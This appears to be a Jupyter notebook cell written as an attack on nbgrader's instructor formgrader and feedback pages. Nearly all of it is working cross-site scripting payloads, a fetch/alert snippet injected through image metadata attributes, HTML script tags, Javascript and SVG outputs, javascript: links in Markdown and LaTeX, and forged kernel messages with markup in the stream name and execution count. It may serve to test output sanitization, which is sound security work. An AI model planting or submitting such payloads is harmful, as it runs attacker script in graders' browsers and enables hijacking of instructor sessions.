# Run JavaScript in the instructor's formgrader and in the feedback page: outputs whose metadata
# carries attributes, HTML, SVG and Javascript outputs, a fake execution count, an odd stream name
# (the kernel sends them as it likes), and a markdown answer with raw HTML and javascript: links.
import base64
import json
from IPython.display import display, HTML, Javascript, SVG, Markdown
from ipykernel.kernelbase import Kernel

PAYLOAD = "fetch('/pwned/' + document.domain); alert('runs_in_browser')"
png = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(60)).decode()
display({"image/png": png}, raw=True, metadata={"image/png": {"width": f"1 onerror={PAYLOAD}"}, "width": f"1 onerror={PAYLOAD}"})
display(HTML(f"<script>{PAYLOAD}</script><img src=x onerror=\"{PAYLOAD}\">"))
display(Javascript(PAYLOAD))
display(SVG(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{PAYLOAD}"/>'))
display(Markdown(f"[click me](javascript:{PAYLOAD}) <img src=x onerror=\"{PAYLOAD}\">"))
display({"text/html": f"<img src=x onerror=\"{PAYLOAD}\">", "text/latex": f"$\\href{{javascript:{PAYLOAD}}}{{x}}$"}, raw=True)
kernel = Kernel.instance()
kernel.session.send(kernel.iopub_socket, "stream", {"name": f'stdout"><img src=x onerror="{PAYLOAD}">', "text": "hi\n"},
                    parent=kernel.get_parent("shell"))
kernel.session.send(kernel.iopub_socket, "execute_result",
                    {"data": {"text/plain": "1"}, "metadata": {}, "execution_count": f"<script>{PAYLOAD}</script>"},
                    parent=kernel.get_parent("shell"))
